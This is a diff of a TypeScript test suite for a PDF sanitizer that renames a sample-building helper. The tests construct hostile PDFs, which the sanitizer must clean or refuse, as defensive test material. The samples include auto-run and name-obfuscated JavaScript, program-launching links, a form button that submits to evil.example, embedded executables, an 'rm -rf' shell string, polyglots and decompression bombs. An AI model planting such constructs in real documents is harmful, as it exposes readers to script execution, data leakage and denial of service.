@@ -8,7 +8,7 @@ import {
   jpegSegment,
   jpegWith,
   pdfStream,
-  buildOnePagePdf,
+  pdfWith,
   baselineJpeg,
   updatePdf,
 } from '@participe/file-sanitizer/samples';
@@ -85,47 +85,41 @@ const program = Buffer.concat([Buffer.from('MZ'), Buffer.from('This program cann
 const acted: readonly HostileFile[] = [
   cleaned(
     'a PDF that runs when it is opened',
-    () => buildOnePagePdf({ catalog: `/OpenAction ${alert}` }),
+    () => pdfWith({ catalog: `/OpenAction ${alert}` }),
     acting,
   ),
   cleaned(
     'a PDF with a script among its names',
-    () => buildOnePagePdf({ catalog: `/Names<</JavaScript<</Names[(a) ${alert}]>>>>` }),
+    () => pdfWith({ catalog: `/Names<</JavaScript<</Names[(a) ${alert}]>>>>` }),
     acting,
   ),
-  cleaned(
-    'a page that runs when it is shown',
-    () => buildOnePagePdf({ page: `/AA<</O ${alert}>>` }),
-    acting,
-  ),
+  cleaned('a page that runs when shown', () => pdfWith({ page: `/AA<</O ${alert}>>` }), acting),
   cleaned(
     'a script under a name in disguise',
-    () => buildOnePagePdf({ catalog: '/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>' }),
+    () => pdfWith({ catalog: '/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>' }),
     acting,
   ),
   cleaned('a script in a packed object', () => packedPdf(`/OpenAction ${alert}`), acting),
   cleaned(
     'a script that was added behind the end',
-    () => updatePdf(buildOnePagePdf(), 1, [`<</Type/Catalog/Pages 2 0 R/OpenAction ${alert}>>`]),
+    () => updatePdf(pdfWith(), 1, [`<</Type/Catalog/Pages 2 0 R/OpenAction ${alert}>>`]),
     acting,
   ),
   cleaned(
     'a link that starts a program',
-    () => buildOnePagePdf({ page: `/Annots[<<${box}/Subtype/Link/A ${launch}>>]` }),
+    () => pdfWith({ page: `/Annots[<<${box}/Subtype/Link/A ${launch}>>]` }),
     acting,
   ),
   cleaned(
     'a link to another place',
     () =>
-      buildOnePagePdf({
-        page: `/Annots[<<${box}/Subtype/Link/A<</S/URI/URI(http://evil.example/)>>>>]`,
-      }),
+      pdfWith({ page: `/Annots[<<${box}/Subtype/Link/A<</S/URI/URI(http://evil.example/)>>>>]` }),
     ['evil.example', 'URI'],
   ),
   cleaned(
     'a button that sends what is written',
     () =>
-      buildOnePagePdf({
+      pdfWith({
         page: `/Annots[<<${box}/Subtype/Widget/FT/Btn/AP<</N 5 0 R>>/A<</S/SubmitForm/F(http://evil.example/)>>>>]`,
         more: [look],
       }),
@@ -134,7 +128,7 @@ const acted: readonly HostileFile[] = [
   cleaned(
     'a box with a script for every key',
     () =>
-      buildOnePagePdf({
+      pdfWith({
         catalog: '/AcroForm<</Fields[6 0 R]/NeedAppearances true>>',
         page: '/Annots[6 0 R]',
         more: [look, `<<${box}/Subtype/Widget/FT/Tx/T(a)/V(b)/AP<</N 5 0 R>>/AA<</K ${alert}>>>>`],
@@ -143,13 +137,13 @@ const acted: readonly HostileFile[] = [
   ),
   cleaned(
     'a form of its own kind (XFA)',
-    () => buildOnePagePdf({ catalog: '/AcroForm<</XFA 5 0 R>>', more: [pdfStream('<xdp:xdp/>')] }),
+    () => pdfWith({ catalog: '/AcroForm<</XFA 5 0 R>>', more: [pdfStream('<xdp:xdp/>')] }),
     ['XFA', 'xdp'],
   ),
   cleaned(
     'a program among its files',
     () =>
-      buildOnePagePdf({
+      pdfWith({
         catalog: '/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>',
         more: [
           '<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>',
@@ -161,7 +155,7 @@ const acted: readonly HostileFile[] = [
   cleaned(
     'a program pinned to a page',
     () =>
-      buildOnePagePdf({
+      pdfWith({
         page: `/Annots[<<${box}/Subtype/FileAttachment/FS 5 0 R/AP<</N 7 0 R>>>>]`,
         more: ['<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>', pdfStream(program), look],
       }),
@@ -170,7 +164,7 @@ const acted: readonly HostileFile[] = [
   cleaned(
     'a film that plays',
     () =>
-      buildOnePagePdf({
+      pdfWith({
         page: `/Annots[<<${box}/Subtype/RichMedia/RichMediaContent 5 0 R/AP<</N 6 0 R>>>>]`,
         more: [pdfStream('FWS'), look],
       }),
@@ -179,7 +173,7 @@ const acted: readonly HostileFile[] = [
   cleaned(
     'a picture that stands elsewhere',
     () =>
-      buildOnePagePdf({
+      pdfWith({
         resources: '/XObject<</X 5 0 R>>',
         more: [
           pdfStream(squareDrawing, '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/F(//evil.example/x)'),
@@ -190,7 +184,7 @@ const acted: readonly HostileFile[] = [
   cleaned(
     'a photograph on a page that knows where it was taken',
     () =>
-      buildOnePagePdf({
+      pdfWith({
         resources: '/XObject<</X 5 0 R>>',
         more: [
           pdfStream(
@@ -204,7 +198,7 @@ const acted: readonly HostileFile[] = [
   cleaned(
     'papers about the person who wrote it',
     () =>
-      buildOnePagePdf({
+      pdfWith({
         catalog: '/Metadata 5 0 R/PieceInfo<</A<</Private 5 0 R>>>>',
         more: [pdfStream('<x:xmpmeta>Ana Martínez</x:xmpmeta>'), '<</Author(Ana)/Title(Secreto)>>'],
         trailer: '/Info 6 0 R',
@@ -213,7 +207,7 @@ const acted: readonly HostileFile[] = [
   ),
   cleaned(
     'an object that no page needs',
-    () => buildOnePagePdf({ more: [pdfStream('#!/bin/sh rm -rf')] }),
+    () => pdfWith({ more: [pdfStream('#!/bin/sh rm -rf')] }),
     ['/bin/sh'],
   ),
 ];
@@ -224,44 +218,38 @@ const digest = createHash('md5').update('key').digest('hex');
 
 /** Returns a PDF that takes long to read and is then refused for its broken end. */
 export const slowPdf = (): Buffer =>
-  buildOnePagePdf({ content: pdfStream(endless(60), '/Filter/FlateDecode') });
+  pdfWith({ content: pdfStream(endless(60), '/Filter/FlateDecode') });
 
 /** PDFs that are refused: encrypted, broken, polyglot, or oversized when unpacked. */
 const broken: readonly HostileFile[] = [
   refused('a PDF under a key', () =>
-    buildOnePagePdf({
-      trailer: `/Encrypt<</Filter/Standard/V 1/R 2/P -4>>/ID[<${digest}><${digest}>]`,
-    }),
+    pdfWith({ trailer: `/Encrypt<</Filter/Standard/V 1/R 2/P -4>>/ID[<${digest}><${digest}>]` }),
   ),
   refused('a PDF under the key of somebody', () =>
-    buildOnePagePdf({ content: pdfStream(squareDrawing, '/Filter/Crypt') }),
+    pdfWith({ content: pdfStream(squareDrawing, '/Filter/Crypt') }),
   ),
-  refused('half a PDF', () => buildOnePagePdf().subarray(0, 200)),
-  refused('a PDF without its end', () => buildOnePagePdf().subarray(0, -7)),
+  refused('half a PDF', () => pdfWith().subarray(0, 200)),
+  refused('a PDF without its end', () => pdfWith().subarray(0, -7)),
   refused('the beginning of a PDF', () => Buffer.from('%PDF-1.7\n')),
   refused('a PDF with a packed file behind it', () =>
-    Buffer.concat([buildOnePagePdf(), Buffer.from('PK\u0003\u0004')]),
+    Buffer.concat([pdfWith(), Buffer.from('PK\u0003\u0004')]),
   ),
   refused('a PDF with a page of the web behind it', () =>
-    Buffer.concat([buildOnePagePdf(), Buffer.from('<script>alert(1)</script>')]),
+    Buffer.concat([pdfWith(), Buffer.from('<script>alert(1)</script>')]),
   ),
-  refused('a picture with a PDF behind it', () =>
-    Buffer.concat([Buffer.from('GIF89a'), buildOnePagePdf()]),
-  ),
+  refused('a picture followed by a PDF', () => Buffer.concat([Buffer.from('GIF89a'), pdfWith()])),
   refused('a page of the web with a PDF in it', () =>
-    Buffer.concat([Buffer.from('<!--'), buildOnePagePdf()]),
+    Buffer.concat([Buffer.from('<!--'), pdfWith()]),
   ),
   refused('a PDF behind a mark of byte order', () =>
-    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), buildOnePagePdf()]),
+    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), pdfWith()]),
   ),
   refused('a PDF whose table points elsewhere', () =>
-    cut(buildOnePagePdf(), '%\u00e2\u00e3\u00cf\u00d3\n', '% moved everything\n'),
+    cut(pdfWith(), '%\u00e2\u00e3\u00cf\u00d3\n', '% moved everything\n'),
   ),
-  refused('a PDF with more objects than fit', () =>
-    cut(buildOnePagePdf(), '1 4\n0', '1 999999999\n0'),
-  ),
+  refused('a PDF with more objects than fit', () => cut(pdfWith(), '1 4\n0', '1 999999999\n0')),
   refused('a PDF whose parts run in a circle', () => {
-    const text = buildOnePagePdf().toString('latin1');
+    const text = pdfWith().toString('latin1');
     return Buffer.from(
       text.replace(/>>\nstartxref\n(\d+)/u, '/Prev $1>>\nstartxref\n$1'),
       'latin1',
@@ -275,41 +263,37 @@ const broken: readonly HostileFile[] = [
   ),
   refused('an object that holds itself', () => packedPdf('', true)),
   refused('values without end in each other', () =>
-    buildOnePagePdf({ resources: `/Font ${'['.repeat(5000)}${']'.repeat(5000)}` }),
+    pdfWith({ resources: `/Font ${'['.repeat(5000)}${']'.repeat(5000)}` }),
   ),
   refused('a stream that is longer than its file', () =>
-    buildOnePagePdf({ content: Buffer.from('<</Length 99999999>>\nstream\nx\nendstream') }),
+    pdfWith({ content: Buffer.from('<</Length 99999999>>\nstream\nx\nendstream') }),
   ),
   refused('a stream whose length leads to itself', () =>
-    buildOnePagePdf({ content: Buffer.from('<</Length 4 0 R>>\nstream\nx\nendstream') }),
+    pdfWith({ content: Buffer.from('<</Length 4 0 R>>\nstream\nx\nendstream') }),
   ),
   refused('a stream that unfolds without end', () =>
-    buildOnePagePdf({ content: pdfStream(endless(), '/Filter/FlateDecode') }),
+    pdfWith({ content: pdfStream(endless(), '/Filter/FlateDecode') }),
   ),
   refused('a stream that unfolds twice', () =>
-    buildOnePagePdf({
-      content: pdfStream(deflateSync(endless()), '/Filter[/FlateDecode/FlateDecode]'),
-    }),
+    pdfWith({ content: pdfStream(deflateSync(endless()), '/Filter[/FlateDecode/FlateDecode]') }),
   ),
   refused('a stream of runs that add up', () =>
-    buildOnePagePdf({
-      content: pdfStream(Buffer.alloc(5 * 1024 * 1024, 0x81), '/Filter/RunLengthDecode'),
-    }),
+    pdfWith({ content: pdfStream(Buffer.alloc(5 * 1024 * 1024, 0x81), '/Filter/RunLengthDecode') }),
   ),
   refused('a picture as large as a field', () =>
-    buildOnePagePdf({
+    pdfWith({
       resources: '/XObject<</X 5 0 R>>',
       more: [picture('/Width 100000/Height 100000')],
     }),
   ),
   refused('a picture packed by nobody knows what', () =>
-    buildOnePagePdf({
+    pdfWith({
       resources: '/XObject<</X 5 0 R>>',
       more: [picture('/Width 9/Height 9', '/MadeUpDecode')],
     }),
   ),
   refused('a PDF in which the scanner finds something', () =>
-    buildOnePagePdf({ content: pdfStream(`% ${eicarTestFile}`) }),
+    pdfWith({ content: pdfStream(`% ${eicarTestFile}`) }),
   ),
 ];
 
